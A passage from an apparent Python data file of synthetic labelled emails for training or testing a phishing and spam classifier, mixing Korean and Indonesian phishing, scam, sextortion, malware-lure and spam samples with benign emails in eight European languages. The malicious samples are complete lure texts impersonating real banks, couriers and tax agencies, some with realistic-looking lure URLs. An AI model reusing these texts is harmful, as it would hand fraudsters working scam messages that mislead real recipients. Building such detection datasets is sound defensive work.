     "https://file-jeonsong.xyz/semgeumgyesanseo_202611.zip\n\n감사합니다.", None),
    ("ko", "malware", "attach", "인사팀", "hr@example.net", "연말정산 간소화 자료 제출 안내",
     "직원 여러분 안녕하십니까.\n2026년 연말정산 안내문과 제출 양식을 첨부하오니 확인 후 12월 15일까지 제출해 주시기 바랍니다.\n\n인사팀", "연말정산_안내.html"),
    ("ko", "spam", "loan", "(광고) 서민대출센터", "loan@seomin-daechul.example.org", "(광고) 신용등급 상관없이 최대 3,000만원 당일 대출",
     "(광고) 저신용자, 무직자도 가능! 정부지원 서민대출 최대 3,000만원, 당일 승인.\n"
     "상담 문의: 010-0000-0000\n무료수신거부 080-000-0000", None),
    ("ko", "spam", "dating", "(광고) 만남 사이트", "meet@mannam.example.com", "(광고) 오늘 밤 외로우신가요?",
     "(광고) 근처에 사는 20대 여성 회원들이 대화를 기다리고 있습니다.\n"
     "지금 가입하면 포인트 10,000점 무료: https://mannam-chat.love/join\n수신거부: 회신", None),
    # ===================== Indonesian (id)
    ("id", "phishing", "bank", "BCA", "halo@bca-pemberitahuan.example.com", "Perubahan tarif transaksi BCA",
     "Nasabah Yth,\n\nMulai 5 Desember 2026 tarif transaksi berubah menjadi Rp 150.000 per bulan. "
     "Jika Anda tidak setuju, silakan pilih tarif lama melalui formulir berikut sebelum batas waktu:\n\n"
     "https://bca-tarif-transaksi.web.id.co/form\n\nHalo BCA", None),
    ("id", "phishing", "parcel", "J&T Express", "info@jnt-kiriman.example.net", "Paket Anda tertahan di gudang",
     "Pelanggan yang terhormat, paket Anda dengan nomor resi JX1029384756 tertahan karena alamat tidak lengkap.\n"
     "Mohon perbarui alamat dan bayar biaya pengiriman ulang Rp 12.000: https://jnt-update-alamat.top/id\n\nJ&T Express", None),
    ("id", "phishing", "tax", "Direktorat Jenderal Pajak", "djp@pajak-info.example.org", "Pemberitahuan restitusi pajak",
     "Wajib Pajak Yth,\n\nBerdasarkan SPT Tahunan Anda, terdapat kelebihan bayar pajak sebesar Rp 2.450.000 yang dapat dikembalikan. "
     "Silakan lengkapi data rekening bank Anda di tautan berikut dalam 3 hari kerja.\n\n"
     "https://djponline-restitusi.site/wp\n\nDirektorat Jenderal Pajak", None),
    ("id", "phishing", "mail", "Admin Webmail", "postmaster@webmail-kuota.example.com", "Kotak surat Anda hampir penuh",
     "Pengguna yang terhormat,\n\nKotak surat Anda telah mencapai batas kuota 99%. Anda tidak akan bisa menerima email baru.\n"
     "Klik di sini untuk menambah kuota gratis: http://webmail-tambah-kuota.info/login\n\nTim Admin", None),
    ("id", "scam", "advance", "Mrs. Grace Thompson", "grace.thompson.charity@example.org", "Sumbangan untuk Anda",
     "Salam sejahtera,\n\nSaya seorang janda yang sedang sakit parah. Saya ingin menyumbangkan dana sebesar USD 4.500.000 "
     "kepada orang yang jujur untuk kegiatan amal. Mohon balas dengan nama lengkap, alamat, dan nomor telepon Anda.\n\nTuhan memberkati", None),
    ("id", "scam", "prize", "Shopee Undian", "undian@shopee-hadiah.example.com", "Selamat! Anda memenangkan Rp 175.000.000",
     "Selamat! Akun Anda terpilih sebagai pemenang undian Shopee 12.12 dengan hadiah uang tunai Rp 175.000.000.\n"
     "Untuk pencairan hadiah, hubungi panitia via WhatsApp +62 812 0000 0000 dan siapkan biaya administrasi Rp 1.500.000.", None),
    ("id", "scam", "invest", "Trading Profit", "admin@robot-trading.example.net", "Profit 5% per hari dijamin aman",
     "Investasi robot trading otomatis dengan profit 5% setiap hari! Modal mulai Rp 500.000, bisa ditarik kapan saja.\n"
     "Sudah terdaftar di OJK (katanya). Daftar sekarang: https://robot-trading-cuan.pro/daftar", None),
    ("id", "scam", "callback", "BPJS Kesehatan", "tagihan@bpjs-tunggakan.example.org", "Tunggakan iuran BPJS Anda",
     "Peserta Yth,\n\nAnda memiliki tunggakan iuran BPJS Kesehatan sebesar Rp 1.275.000. Kartu Anda akan dinonaktifkan dalam 2x24 jam.\n"
     "Segera hubungi petugas kami di 0811 0000 0000 untuk penyelesaian.", None),
    ("id", "scam", "sextortion", "", "dewi.lestari@example.com", "Video Anda ada di tangan saya",
     "Halo, saya telah meretas perangkat Anda dan merekam Anda lewat kamera saat menonton situs dewasa.\n"
     "Kirim USD 500 dalam Bitcoin ke alamat ini jika tidak ingin video tersebar ke semua kontak Anda:\n"
     "bc1qwyx6pk2sn0at8urjxkpu20pdn7rdnc6kz63y23\n\nWaktu Anda 48 jam.", None),
    ("id", "malware", "link", "Bagian Keuangan", "keuangan@cv-maju-jaya.example.com", "Invoice tagihan bulan November",
     "Selamat siang,\n\nBerikut kami kirimkan invoice tagihan bulan November. Silakan unduh di tautan berikut:\n"
     "https://dokumen-unduh.xyz/invoice_november.exe\n\nTerima kasih", None),
    ("id", "malware", "attach", "Kurir", "kurir@example.net", "Bukti pengiriman paket",
     "Halo, berikut foto bukti pengiriman paket Anda. Silakan buka lampiran untuk melihat detailnya.", "Foto_Paket.zip"),
    ("id", "spam", "loan", "Pinjaman Online", "pinjol@dana-cepat.example.org", "Pinjaman cair 5 menit tanpa jaminan",
     "Butuh dana cepat? Pinjaman hingga Rp 20 juta cair dalam 5 menit, tanpa BI checking, tanpa jaminan!\n"
     "Ajukan sekarang via WhatsApp 0812 0000 0001.", None),
    ("id", "spam", "gambling", "Slot Gacor", "promo@slot-gacor.example.com", "Bonus new member 100% hari ini",
     "Situs slot gacor terpercaya, maxwin setiap hari! Bonus new member 100%, deposit via pulsa dan e-wallet.\n"
     "Link alternatif: https://slot-gacor-maxwin.bet\n\nDaftar sekarang juga!", None),
]

# (language, sub-class, the sender's own domain, display name, subject, body, newsletter)
ORDINARY: list[tuple[str, str, str, str, str, str, bool]] = [
    # ===================== German (de)
    ("de", "bank", "stadtbank-nord.example.com", "Stadtbank Nord", "Ihr Kontoauszug für November steht bereit",
     "Guten Tag Frau Schmidt,\n\nIhr Kontoauszug für den Monat November 2026 steht ab sofort in Ihrem elektronischen Postfach bereit. "
     "Melden Sie sich dazu wie gewohnt in unserer App oder im Online-Banking an.\n\n"
     "Bitte beachten Sie: Wir fragen Sie niemals per E-Mail nach PIN oder TAN.\n\nFreundliche Grüße\nIhre Stadtbank Nord", False),
    ("de", "newsletter", "gartenwelt.example.com", "Gartenwelt Newsletter", "Winterzeit ist Planungszeit – unsere Tipps für Dezember",
     "Hallo Anna,\n\njetzt ist die beste Zeit, Beete für das nächste Jahr zu planen. In unserem Magazin zeigen wir, welche Stauden den Frost gut überstehen "
     "und wie Sie Kübelpflanzen richtig überwintern.\n\nZum Magazin: https://www.gartenwelt.example.com/magazin/dezember\n\n"
     "Sie erhalten diesen Newsletter, weil Sie sich auf gartenwelt.example.com angemeldet haben.\n"
     "Abmelden: https://www.gartenwelt.example.com/newsletter/abmelden?id=8812", True),
    ("de", "order", "buchladen.example.com", "Buchladen am Markt", "Bestellbestätigung Nr. 100-48211",
     "Vielen Dank für Ihre Bestellung!\n\n1 x \"Der Zauberberg\" (Taschenbuch) 14,00 €\nVersand: kostenlos\nGesamt: 14,00 €\n\n"
     "Zahlungsart: Rechnung. Die Lieferung erfolgt voraussichtlich am 05.12.2026.\n"
     "Ihre Bestellung können Sie jederzeit in Ihrem Kundenkonto einsehen: https://www.buchladen.example.com/konto/bestellungen", False),
    ("de", "colleague", "firma.example.com", "Jonas Becker", "Re: Abstimmung Projektplan Q1",
     "Hi Anna,\n\ndanke für die Folien. Ich habe den Zeitplan für Januar angepasst und die Meilensteine für das Testing nach hinten geschoben. "
     "Können wir morgen um 10 Uhr kurz telefonieren? Dann gehe ich die Änderungen mit dir durch.\n\nViele Grüße\nJonas", False),
    ("de", "tax", "finanzamt-musterstadt.example.com", "Finanzamt Musterstadt", "Ihr Steuerbescheid 2025 liegt vor",
     "Sehr geehrte Frau Schmidt,\n\nIhr Einkommensteuerbescheid für 2025 wurde erstellt und steht in Ihrem ELSTER-Postfach zum Abruf bereit. "
     "Bitte melden Sie sich dazu mit Ihrem Zertifikat in Mein ELSTER an. Diese E-Mail enthält aus Sicherheitsgründen keinen Link.\n\n"
     "Mit freundlichen Grüßen\nIhr Finanzamt Musterstadt", False),
    ("de", "personal", "example.net", "Papa", "Geld fürs Konzert",
     "Hallo Schatz,\n\nich habe dir gestern die 120 € für die Konzertkarten überwiesen, müsste heute auf deinem Konto sein. "
     "Oma lässt fragen, ob du Weihnachten schon am 23. kommst.\n\nLiebe Grüße\nPapa", False),
    ("de", "parcel", "paketdienst-schnell.example.com", "Paketdienst Schnell", "Ihre Sendung kommt heute",
     "Guten Tag,\n\nIhre Sendung 3218 4410 2291 wird heute zwischen 13:00 und 15:00 Uhr zugestellt. "
     "Sollten Sie nicht zu Hause sein, legen wir das Paket in der nächsten Filiale ab.\n\n"
     "Sendungsverfolgung: https://www.paketdienst-schnell.example.com/sendung/321844102291", False),
    ("de", "invoice", "stadtwerke-musterstadt.example.com", "Stadtwerke Musterstadt", "Ihre Jahresabrechnung Strom 2026",
     "Sehr geehrte Frau Schmidt,\n\nIhre Jahresabrechnung für Strom ist erstellt. Es ergibt sich ein Guthaben von 64,20 €, das wir Ihnen in den nächsten Tagen erstatten.\n"
     "Die Abrechnung finden Sie in Ihrem Kundenportal unter https://portal.stadtwerke-musterstadt.example.com\n\nIhre Stadtwerke", False),
    ("de", "security", "mailanbieter.example.com", "Mailanbieter Sicherheit", "Neue Anmeldung bei Ihrem Konto",
     "Hallo Anna,\n\nwir haben eine neue Anmeldung bei Ihrem Konto festgestellt: Firefox unter Windows, Berlin, 02.12.2026 18:41.\n"
     "Wenn Sie das waren, müssen Sie nichts tun. Andernfalls ändern Sie bitte Ihr Passwort in den Kontoeinstellungen.\n\nIhr Mailanbieter-Team", False),
    # ===================== French (fr)
    ("fr", "bank", "banque-regionale.example.com", "Banque Régionale", "Votre relevé de compte est disponible",
     "Madame Martin,\n\nVotre relevé de compte de novembre est disponible dans votre espace client, rubrique « e-Documents ». "
     "Pour le consulter, connectez-vous à votre application habituelle.\n\n"
     "Rappel : votre conseiller ne vous demandera jamais vos codes par e-mail ou par téléphone.\n\nBanque Régionale", False),
    ("fr", "newsletter", "cuisine-facile.example.com", "Cuisine Facile", "3 recettes de fêtes prêtes en 30 minutes",
     "Bonjour Claire,\n\nCette semaine : velouté de potimarron, saumon en croûte et bûche express. "
     "Retrouvez toutes nos recettes sur https://www.cuisine-facile.example.com/recettes/fetes\n\n"
     "Vous recevez cet e-mail car vous êtes abonnée à notre lettre d'information.\n"
     "Se désinscrire : https://www.cuisine-facile.example.com/desinscription?u=5521", True),
    ("fr", "order", "maison-deco.example.com", "Maison Déco", "Confirmation de votre commande n°FR-20931",
     "Merci pour votre commande !\n\nArticle : Lampe de chevet en lin – 39,90 €\nLivraison : 4,90 €\nTotal : 44,80 €\n\n"
     "Vous serez informée par e-mail lors de l'expédition. Suivez votre commande : https://www.maison-deco.example.com/mon-compte", False),
    ("fr", "colleague", "societe.example.com", "Thomas Girard", "Compte rendu réunion du 2 décembre",
     "Bonjour à tous,\n\nVoici le compte rendu de la réunion d'hier. Points principaux : le budget 2027 est validé, "
     "le lancement du nouveau site est repoussé à février. Merci à chacun de relire ses actions avant vendredi.\n\nBonne journée,\nThomas", False),
    ("fr", "tax", "sip-exemple.example.com", "Service des impôts des particuliers", "Un nouveau document est disponible dans votre espace",
     "Madame, Monsieur,\n\nUn nouveau document concernant votre taxe foncière 2026 est disponible dans votre espace particulier sur impots.gouv.fr.\n"
     "Pour le consulter, connectez-vous directement au site en saisissant l'adresse dans votre navigateur.\n\n"
     "Cet e-mail est envoyé automatiquement, merci de ne pas y répondre.", False),
    ("fr", "personal", "example.net", "Mamie", "Pour ton anniversaire",
     "Ma chérie,\n\nJe t'ai envoyé un chèque de 50 euros par la poste pour ton anniversaire, achète-toi quelque chose qui te fait plaisir. "
     "Ton grand-père t'embrasse. On se voit à Noël ?\n\nGros bisous\nMamie", False),
    ("fr", "parcel", "relais-colis-express.example.com", "Relais Express", "Votre colis est disponible en point relais",
     "Bonjour,\n\nVotre colis n° 48812093 est disponible au point relais Tabac de la Gare, 12 rue de la Gare, jusqu'au 14/12.\n"
     "Présentez une pièce d'identité et le code de retrait 4471.\n\nSuivi : https://www.relais-colis-express.example.com/suivi/48812093", False),
    ("fr", "invoice", "operateur-mobile.example.com", "Opérateur Mobile", "Votre facture de novembre",
     "Bonjour Claire,\n\nVotre facture de novembre d'un montant de 19,99 € est disponible. Elle sera prélevée le 08/12/2026.\n"
     "Consultez le détail dans votre espace client : https://client.operateur-mobile.example.com/factures", False),
    ("fr", "security", "reseau-social.example.com", "Réseau Social", "Code de vérification",
     "Votre code de vérification est 482 913. Il expire dans 10 minutes.\n"
     "Si vous n'avez pas demandé ce code, vous pouvez ignorer cet e-mail ; personne ne peut accéder à votre compte sans ce code.", False),
    # ===================== Spanish (es)
    ("es", "bank", "banco-del-sur.example.com", "Banco del Sur", "Recibo domiciliado cargado en su cuenta",
     "Estimada Lucía:\n\nLe informamos de que se ha cargado en su cuenta el recibo de Compañía de Agua por importe de 32,18 €.\n"
     "Puede consultar el detalle de sus movimientos en la app de Banco del Sur.\n\n"
     "Recuerde que nunca le pediremos claves por correo electrónico.", False),
    ("es", "newsletter", "viajes-sol.example.com", "Viajes Sol", "Escapadas de invierno desde 89 €",
     "Hola Lucía,\n\nDescubre nuestras escapadas de invierno: Granada, Asturias y los Pirineos, con hotel y desayuno incluidos.\n"
     "Ver ofertas: https://www.viajes-sol.example.com/ofertas/invierno\n\n"
     "Recibes este boletín porque te suscribiste en nuestra web. Darse de baja: https://www.viajes-sol.example.com/baja?id=3390", True),
    ("es", "order", "tienda-deportes.example.com", "Tienda Deportes", "Pedido confirmado #ES778201",
     "¡Gracias por tu compra!\n\nZapatillas running talla 39 – 64,95 €\nGastos de envío – 0,00 €\nTotal – 64,95 €\n\n"
     "Recibirás tu pedido entre el 5 y el 7 de diciembre. Consulta el estado en https://www.tienda-deportes.example.com/mis-pedidos", False),
    ("es", "colleague", "empresa.example.com", "Javier Ruiz", "Cambio de sala para la reunión",
     "Hola equipo,\n\nLa reunión de mañana a las 11:00 se traslada a la sala 3B porque la 2A está en obras. "
     "Traed los datos de ventas de noviembre, por favor.\n\nGracias,\nJavier", False),
    ("es", "tax", "ayuntamiento-ejemplo.example.com", "Ayuntamiento - Gestión Tributaria", "Aviso de cargo del IBI",
     "Le comunicamos que el próximo 10 de diciembre se cargará en su cuenta el segundo plazo del Impuesto sobre Bienes Inmuebles.\n"
     "Puede consultar su recibo en la sede electrónica del Ayuntamiento accediendo con certificado digital o Cl@ve.\n\n"
     "Este mensaje es informativo y no requiere respuesta.", False),
    ("es", "personal", "example.net", "Marta", "Lo de la cena del sábado",
     "¡Hola!\n\nAl final la cena salió a 35 € por cabeza. Te paso mi número de cuenta por WhatsApp para que me hagas un Bizum cuando puedas. "
     "Lo pasamos genial, a ver si repetimos pronto.\n\nUn beso,\nMarta", False),
    ("es", "parcel", "mensajeria-rapida.example.com", "Mensajería Rápida", "Tu envío está en reparto",
     "Hola Lucía,\n\nTu envío 7712-0093 sale hoy en reparto. El repartidor llegará entre las 9:00 y las 14:00.\n"
     "Puedes cambiar la entrega en https://www.mensajeria-rapida.example.com/envio/77120093", False),
    ("es", "invoice", "electrica-norte.example.com", "Eléctrica Norte", "Tu factura de luz ya está disponible",
     "Hola Lucía,\n\nYa tienes disponible tu factura del periodo 01/11 - 30/11 por importe de 48,72 €. "
     "Se cargará en tu cuenta en los próximos días.\nPuedes verla en tu área de cliente: https://clientes.electrica-norte.example.com", False),
    ("es", "security", "correo-web.example.com", "Correo Web", "Se ha cambiado la contraseña de tu cuenta",
     "Hola,\n\nLa contraseña de tu cuenta se cambió el 02/12/2026 a las 20:14.\n"
     "Si fuiste tú, puedes ignorar este mensaje. Si no, ve a la configuración de tu cuenta y restablece la contraseña.", False),
    # ===================== Portuguese, Brazil (pt)
    ("pt", "bank", "banco-paulista.example.com", "Banco Paulista", "Sua fatura do cartão fechou",
     "Olá, João!\n\nA fatura do seu cartão final 4421 fechou no valor de R$ 1.204,33, com vencimento em 15/12.\n"
     "Você pode pagar pelo app ou pelo Internet Banking. Lembramos que não enviamos links para pagamento por e-mail.", False),
    ("pt", "newsletter", "revista-tech.example.com", "Revista Tech", "As 10 notícias de tecnologia da semana",
     "Olá, João!\n\nNesta edição: novos processadores, a regulamentação da IA no Brasil e dicas para proteger seu celular.\n"
     "Leia no site: https://www.revista-tech.example.com/edicao/312\n\n"
     "Você recebe esta newsletter porque se cadastrou. Cancelar inscrição: https://www.revista-tech.example.com/descadastrar?u=90", True),
    ("pt", "order", "loja-casa.example.com", "Loja Casa", "Pedido 55120 confirmado",
     "Oi João, recebemos seu pedido!\n\nJogo de panelas antiaderente – R$ 289,90\nFrete – R$ 0,00\nPagamento: Pix (aprovado)\n\n"
     "Acompanhe a entrega em https://www.loja-casa.example.com/meus-pedidos/55120", False),
    ("pt", "colleague", "empresa-br.example.com", "Carla Mendes", "Planilha de custos atualizada",
     "Oi João,\n\nAtualizei a planilha de custos com os valores do fornecedor novo. A diferença ficou em uns R$ 3 mil a menos por mês. "
     "Dá uma olhada no drive da equipe antes da reunião de quinta?\n\nAbs,\nCarla", False),
    ("pt", "tax", "prefeitura-exemplo.example.com", "Prefeitura Municipal", "IPTU 2027: carnê disponível",
     "Prezado contribuinte,\n\nO carnê do IPTU 2027 já está disponível no portal do contribuinte da Prefeitura. "
     "Acesse digitando o endereço oficial no seu navegador e informe a inscrição do imóvel.\n"
     "A Prefeitura não envia boletos por e-mail nem por WhatsApp.", False),
    ("pt", "personal", "example.net", "Tia Rosa", "Presente do Natal",
     "Querido,\n\nMandei um Pix de R$ 200 para você comprar o presente da sua mãe, como combinamos. Não conta pra ela!\n"
     "Beijos e até o dia 24.\nTia Rosa", False),
    ("pt", "parcel", "transportadora-rapida.example.com", "Transportadora Rápida", "Seu pedido saiu para entrega",
     "Olá!\n\nSua encomenda com código TR00918273 saiu para entrega hoje. Fique atento à campainha.\n"
     "Rastreamento: https://www.transportadora-rapida.example.com/rastreio/TR00918273", False),
    ("pt", "invoice", "internet-fibra.example.com", "Internet Fibra", "Sua conta de dezembro",
     "Olá, João. Sua conta de internet de dezembro, no valor de R$ 99,90, vence dia 10.\n"
     "O código de barras e o Pix Copia e Cola estão na Área do Cliente: https://minhaconta.internet-fibra.example.com", False),
    ("pt", "security", "app-social.example.com", "App Social", "Novo acesso à sua conta",
     "Olá, detectamos um novo acesso à sua conta a partir de um Android em São Paulo, às 21:03 de 02/12.\n"
     "Se foi você, ignore esta mensagem. Caso contrário, altere sua senha nas configurações do aplicativo.", False),
    # ===================== Italian (it)
    ("it", "bank", "banca-lombarda.example.com", "Banca Lombarda", "Addebito carta: notifica di pagamento",
     "Gentile Giulia,\n\nti confermiamo un pagamento di 23,50 € con la tua carta di debito presso SUPERMERCATO CENTRO il 02/12 alle 18:22.\n"
     "Se non riconosci l'operazione, blocca la carta dall'app o chiama il numero che trovi sul retro della carta.", False),
    ("it", "newsletter", "libreria-online.example.com", "Libreria Online", "I libri più regalati di Natale",
     "Ciao Giulia,\n\nabbiamo selezionato per te i romanzi più amati dell'anno e le novità per ragazzi.\n"
     "Scopri la selezione: https://www.libreria-online.example.com/natale\n\n"
     "Ricevi questa email perché sei iscritta alla newsletter. Disiscriviti: https://www.libreria-online.example.com/unsubscribe?u=771", True),
    ("it", "order", "moda-milano.example.com", "Moda Milano", "Ordine n. 30018 ricevuto",
     "Grazie per il tuo acquisto!\n\nMaglione in lana merino, taglia M – 79,00 €\nSpedizione standard – gratuita\n\n"
     "Riceverai un'email con il numero di tracciamento appena l'ordine sarà spedito. Il tuo account: https://www.moda-milano.example.com/account", False),
    ("it", "colleague", "azienda.example.com", "Luca Bianchi", "Ferie di Natale",
     "Ciao Giulia,\n\nper organizzare i turni mi mandi entro venerdì le date in cui sarai in ferie a dicembre? "
     "Io sarò via dal 22 al 2 gennaio.\n\nGrazie e buona giornata,\nLuca", False),
    ("it", "tax", "comune-esempio.example.com", "Comune - Ufficio Tributi", "Avviso TARI 2026: seconda rata",
     "Gentile contribuente,\n\nle ricordiamo che il 16 dicembre scade la seconda rata della TARI 2026. "
     "Il modello F24 precompilato è disponibile nell'area riservata del portale del Comune, accessibile con SPID o CIE.\n\n"
     "Questa comunicazione non contiene link per motivi di sicurezza.", False),
    ("it", "personal", "example.net", "Francesca", "Regalo per la prof",
     "Ciao Giulia!\n\nPer il regalo alla maestra abbiamo raccolto 10 € a testa. Se riesci, lasciameli domani all'uscita di scuola, "
     "altrimenti va bene anche un bonifico.\n\nUn abbraccio,\nFra", False),
    ("it", "parcel", "corriere-veloce.example.com", "Corriere Veloce", "La tua spedizione è in consegna oggi",
     "Gentile cliente, la spedizione 0098 1123 è in consegna oggi. Se sei assente, il corriere lascerà un avviso.\n"
     "Segui la spedizione: https://www.corriere-veloce.example.com/tracking/00981123", False),
    ("it", "invoice", "gas-luce-italia.example.com", "Gas e Luce Italia", "La tua bolletta di novembre",
     "Ciao Giulia, la bolletta di novembre è pronta: importo 87,40 €, addebito diretto il 12/12.\n"
     "Puoi consultarla nell'area clienti: https://area-clienti.gas-luce-italia.example.com", False),
    ("it", "security", "cloud-foto.example.com", "Cloud Foto", "Accesso da un nuovo dispositivo",
     "Ciao Giulia,\n\nil tuo account è stato usato per accedere da un nuovo dispositivo (iPad, Roma).\n"
     "Se sei stata tu, non devi fare nulla. Se non riconosci l'accesso, cambia la password dalle impostazioni dell'account.", False),
    # ===================== Dutch (nl)
    ("nl", "bank", "spaarbank-noord.example.com", "Spaarbank Noord", "Uw nieuwe betaalpas is onderweg",
     "Beste mevrouw De Vries,\n\nUw huidige betaalpas verloopt eind deze maand. Uw nieuwe pas is onderweg en ontvangt u binnen 5 werkdagen. "
     "U hoeft hier niets voor te doen. Uw pincode blijft hetzelfde.\n\nWe vragen u nooit om uw pas op te sturen of om inloggegevens per mail.", False),
    ("nl", "newsletter", "fietswinkel.example.com", "De Fietswinkel", "Winteronderhoud voor je fiets",
     "Hoi Sanne,\n\nZo houd je je fiets in topconditie deze winter: de ketting smeren, bandenspanning checken en de verlichting testen.\n"
     "Lees meer: https://www.fietswinkel.example.com/blog/winteronderhoud\n\n"
     "Geen nieuwsbrief meer ontvangen? Afmelden: https://www.fietswinkel.example.com/afmelden?e=221", True),
    ("nl", "order", "speelgoed-online.example.com", "Speelgoed Online", "Bedankt voor je bestelling 771203",
     "Hoi Sanne,\n\nWe hebben je bestelling ontvangen:\n1x Houten treinset – € 34,99\nVerzendkosten – € 0,00\n\n"
     "Je bestelling wordt morgen verzonden. Bekijk je bestelling: https://www.speelgoed-online.example.com/account/bestellingen", False),
    ("nl", "colleague", "bedrijf.example.com", "Pieter Bakker", "Kerstborrel",
     "Hoi allemaal,\n\nDe kerstborrel is op vrijdag 18 december vanaf 16:00 in de kantine. Willen jullie in de lijst op intranet zetten of je komt? "
     "Partners zijn ook welkom.\n\nGroet,\nPieter", False),
    ("nl", "tax", "gemeente-voorbeeld.example.com", "Gemeente Voorbeeld", "Uw aanslag gemeentelijke belastingen",
     "Geachte mevrouw De Vries,\n\nEr staat een nieuw bericht voor u klaar in uw Berichtenbox van MijnOverheid. "
     "Het gaat om de aanslag gemeentelijke belastingen 2027. Log in op MijnOverheid met DigiD om het bericht te lezen.\n\n"
     "In deze e-mail staan bewust geen links.", False),
    ("nl", "personal", "example.net", "Oma Joke", "Sinterklaas",
     "Lieve Sanne,\n\nIk heb voor de kinderen allebei 25 euro op jouw rekening gezet voor Sinterklaas. Koop maar iets leuks voor ze.\n"
     "Tot zaterdag!\n\nDikke kus, oma", False),
    ("nl", "parcel", "pakketbezorger.example.com", "Pakketbezorger", "Je pakket komt vandaag tussen 14:00 en 16:30",
     "Hoi Sanne,\n\nJe pakket van Speelgoed Online wordt vandaag bezorgd tussen 14:00 en 16:30.\n"
     "Niet thuis? Kies een andere dag: https://www.pakketbezorger.example.com/track/3SABC1234567", False),
    ("nl", "invoice", "energie-nl.example.com", "Energie NL", "Je jaarnota staat klaar",
     "Beste Sanne,\n\nJe jaarnota over 2026 staat klaar. Je krijgt € 112,40 terug; we storten dit binnen 14 dagen op je rekening.\n"
     "Bekijk je jaarnota in de app of op https://mijn.energie-nl.example.com", False),
    ("nl", "security", "webwinkel.example.com", "Webwinkel", "Je wachtwoord is gewijzigd",
     "Hoi Sanne, het wachtwoord van je account is zojuist gewijzigd.\n"
     "Heb je dit zelf gedaan? Dan hoef je niets te doen. Zo niet, neem dan contact op met onze klantenservice via de website.", False),
    # ===================== Polish (pl)
    ("pl", "bank", "bank-mazowiecki.example.com", "Bank Mazowiecki", "Zmiana regulaminu kont osobistych",
     "Szanowna Pani,\n\ninformujemy, że od 1 lutego 2027 r. obowiązuje nowy regulamin kont osobistych. Zmiany dotyczą m.in. limitów przelewów BLIK. "
     "Treść regulaminu znajdzie Pani w aplikacji mobilnej w zakładce Dokumenty.\n\nBank nigdy nie prosi o podanie hasła w wiadomości e-mail.", False),
    ("pl", "newsletter", "sklep-kawa.example.com", "Sklep z Kawą", "Nowe ziarna z Etiopii już są!",
     "Cześć Kasia,\n\nW tym tygodniu mamy nową kawę z regionu Yirgacheffe – nuty jaśminu i cytrusów.\n"
     "Zobacz: https://www.sklep-kawa.example.com/nowosci\n\n"
     "Otrzymujesz ten newsletter, bo zapisałaś się na naszej stronie. Wypisz się: https://www.sklep-kawa.example.com/wypisz?id=1402", True),
    ("pl", "order", "elektro-sklep.example.com", "Elektro Sklep", "Potwierdzenie zamówienia nr 883012",
     "Dziękujemy za zamówienie!\n\nSłuchawki bezprzewodowe – 249,00 zł\nDostawa do Paczkomatu – 0,00 zł\nPłatność: BLIK – opłacone\n\n"
     "Status zamówienia sprawdzisz na https://www.elektro-sklep.example.com/moje-konto", False),
    ("pl", "colleague", "firma-pl.example.com", "Marek Zieliński", "Raport miesięczny",
     "Cześć Kasia,\n\nczy możesz mi do jutra podesłać liczby sprzedaży z listopada? Muszę domknąć raport dla zarządu. "
     "Jakby co, jestem dziś w biurze do 17.\n\nDzięki,\nMarek", False),
    ("pl", "tax", "urzad-skarbowy-przyklad.example.com", "Urząd Skarbowy", "Nowa wiadomość w e-Urzędzie Skarbowym",
     "Szanowna Pani,\n\nw Pani koncie w e-Urzędzie Skarbowym jest nowe pismo dotyczące rozliczenia za 2025 rok. "
     "Aby je odczytać, proszę zalogować się do serwisu, wpisując adres ręcznie w przeglądarce.\n\nWiadomość wygenerowana automatycznie.", False),
    ("pl", "personal", "example.net", "Mama", "Pieniądze na prezenty",
     "Kasiu,\n\nprzelałam Ci 300 zł na prezenty dla dzieci, tak jak rozmawiałyśmy. Tata pyta, czy przyjedziecie w Wigilię przed 16.\n\nBuziaki, mama", False),
    ("pl", "parcel", "kurier-szybki.example.com", "Kurier Szybki", "Przesyłka w doręczeniu",
     "Dzień dobry, Twoja przesyłka 1209 3381 jest dziś w doręczeniu. Kurier zadzwoni przed przyjazdem.\n"
     "Śledzenie: https://www.kurier-szybki.example.com/sledzenie/12093381", False),
    ("pl", "invoice", "telefonia-plus.example.com", "Telefonia Plus", "Twoja e-faktura za grudzień",
     "Dzień dobry, Twoja e-faktura za grudzień na kwotę 45,00 zł jest dostępna w Moim Koncie. Termin płatności: 20.12.2026.\n"
     "https://mojekonto.telefonia-plus.example.com", False),
    ("pl", "security", "portal-pracy.example.com", "Portal Pracy", "Logowanie z nowego urządzenia",
     "Cześć Kasia, zalogowano się na Twoje konto z nowej przeglądarki (Chrome, Warszawa).\n"
     "Jeśli to nie Ty, zmień hasło w ustawieniach konta.", False),
    # ===================== Russian (ru)
    ("ru", "bank", "bank-primer.example.com", "Банк Пример", "Выписка по счёту за ноябрь",
     "Елена Сергеевна, добрый день!\n\nВыписка по вашему счёту за ноябрь 2026 года доступна в мобильном приложении в разделе «Документы».\n"
     "Напоминаем: сотрудники банка никогда не спрашивают коды из SMS.", False),
    ("ru", "newsletter", "knizhny-mir.example.com", "Книжный мир", "Новинки декабря и скидки к Новому году",
     "Здравствуйте, Елена!\n\nВ декабре мы подготовили подборку новых романов и подарочных изданий со скидкой до 30 %.\n"
     "Смотреть подборку: https://www.knizhny-mir.example.com/novinki\n\n"
     "Вы получили это письмо, так как подписаны на рассылку. Отписаться: https://www.knizhny-mir.example.com/unsubscribe?id=551", True),
    ("ru", "order", "market-primer.example.com", "Маркет Пример", "Заказ № 4471208 оформлен",
     "Спасибо за заказ!\n\nЧайник электрический — 2 490 руб.\nДоставка в пункт выдачи — бесплатно\nОплата: картой онлайн\n\n"
     "Статус заказа: https://www.market-primer.example.com/orders/4471208", False),
    ("ru", "colleague", "kompaniya.example.com", "Алексей Петров", "Отчёт по проекту",
     "Лена, привет!\n\nПосмотрел отчёт, в целом всё хорошо. Поправь, пожалуйста, таблицу бюджета на третьей странице — там цифры за октябрь не совпадают. "
     "Созвонимся завтра в 11?\n\nАлексей", False),
    ("ru", "tax", "nalog-primer.example.com", "Налоговая инспекция", "Налоговое уведомление в личном кабинете",
     "Уважаемая Елена Сергеевна!\n\nВ ваш личный кабинет налогоплательщика направлено налоговое уведомление на уплату имущественных налогов. "
     "Срок уплаты — до 1 декабря. Войдите в личный кабинет на официальном сайте ФНС.\n\nПисьмо сформировано автоматически.", False),
    ("ru", "personal", "example.net", "Мама", "Деньги на ремонт",
     "Леночка, перевела тебе 15 тысяч на ремонт, как договаривались. Папа говорит, что в субботу приедет помочь с обоями.\n\nЦелую, мама", False),
    ("ru", "parcel", "kurier-primer.example.com", "Курьерская служба", "Заказ передан курьеру",
     "Здравствуйте! Ваш заказ 4471208 передан курьеру и будет доставлен сегодня с 12:00 до 16:00.\n"
